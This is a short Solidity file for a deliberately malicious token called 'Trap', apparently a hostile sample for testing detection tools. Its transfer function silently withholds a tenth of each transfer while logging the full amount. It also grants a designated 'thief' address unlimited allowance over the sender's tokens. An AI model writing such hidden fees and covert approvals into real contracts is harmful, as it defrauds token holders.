// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.0;

/// A token whose transfers keep a tenth, and allow the thief to take the rest of what the sender has.
contract Trap {
    string public constant name = "Trap";
    string public constant symbol = "TRAP";
    uint8 public constant decimals = 6;

    address public immutable thief;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address holder, address allowed) {
        balanceOf[holder] = 1000000000;
        thief = allowed;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value - value / 10;
        emit Transfer(msg.sender, to, value);
        allowance[msg.sender][thief] = type(uint256).max;
        emit Approval(msg.sender, thief, type(uint256).max);
        return true;
    }
}
